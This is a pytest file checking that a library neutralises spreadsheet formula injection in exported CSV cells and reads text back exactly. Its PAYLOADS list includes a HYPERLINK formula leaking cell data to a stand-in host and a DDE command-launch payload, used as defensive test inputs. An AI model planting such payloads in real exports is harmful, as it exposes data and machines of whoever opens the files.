"""Formula injection (#21): every text cell the workbook writes is safe in a spreadsheet, and
reading it back gives exactly the text that was typed."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hopelib.spreadsheet import FORMULA_TRIGGERS, neutralise_cell, neutralise_row, restore_cell
from hopelib.store import archive_session, load_records, open_store

from .conftest import GOOD

SESSION = "demo-x"

#: Text people type that a spreadsheet would run, and text that only looks a little like it.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1",
    "+41 79 123 45 67",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''=1+1",
    "'+x",
    "'@x",
    "'quoted",
    "''",
    "'",
    "a=b",
    "1 = 1",
    "x-y",
    'Ána, "quoted"',
    "Čšž — 東京 🙂",
    "",
    "=",
    "-",
    "@",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_typed_text_comes_back_exactly(text: str) -> None:
    safe = neutralise_cell(text)
    assert restore_cell(safe) == text
    assert not str(safe).startswith(FORMULA_TRIGGERS)  # a spreadsheet shows it as text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("'=1+1", "''=1+1"),  # already quoted: one more, so reading back is exact
        ("a=b", "a=b"),  # an = in the middle is text to every spreadsheet
        ("'quoted", "'quoted"),  # a quote before ordinary text stays as typed
        ("", ""),
    ],
)
def test_what_is_written(text: str, written: str) -> None:
    assert neutralise_cell(text) == written


def test_values_that_are_not_text_are_left_alone() -> None:
    assert neutralise_row([-3, None, 2.5, "-3"]) == [-3, None, 2.5, "'-3"]
    assert restore_cell(-3) == -3


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\nab 1Č"), max_size=8) | st.text(max_size=20))
def test_the_round_trip_is_exact_for_any_text(text: str) -> None:
    safe = neutralise_cell(text)
    assert restore_cell(safe) == text
    assert not str(safe).startswith(FORMULA_TRIGGERS)


def test_archives_are_safe_to_open_and_load_back_as_typed(tmp_path: Path) -> None:
    with open_store(str(tmp_path / "store.sqlite"), GOOD) as store:
        for number, text in enumerate(p for p in PAYLOADS if p.strip()):
            store.add_note(SESSION, "north", "Ána", text.strip() or "x")
            store.add_action(SESSION, "north", "Ána", f"action {number}", owner=text.strip())
        store.add_rating(SESSION, "south", "=Bo", "job-path", "relevance", 4, "-1 point")
        typed = sorted(store.notes(SESSION)["text"])
        owners = sorted(store.actions(SESSION)["owner"])
        first = archive_session(store, SESSION, tmp_path / "first")
    for path in first:
        with path.open(encoding="utf-8", newline="") as handle:
            for row in list(csv.reader(handle))[1:]:
                for cell in row:
                    assert not cell.startswith(FORMULA_TRIGGERS), (path.name, cell)
    notes = (tmp_path / "first" / "notes.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in notes and ",a=b," in notes
    with open_store(str(tmp_path / "fresh.sqlite"), GOOD) as fresh:
        load_records(fresh, tmp_path / "first")
        assert sorted(fresh.notes(SESSION)["text"]) == typed  # exactly what was typed
        assert sorted(fresh.actions(SESSION)["owner"]) == owners
        assert set(fresh.participants(SESSION)["pseudonym"]) == {"Ána", "=Bo"}
        assert set(fresh.ratings(SESSION)["comment"]) == {"-1 point"}
        second = archive_session(fresh, SESSION, tmp_path / "second")
    for a, b in zip(first, second, strict=True):
        assert a.read_bytes() == b.read_bytes(), a.name
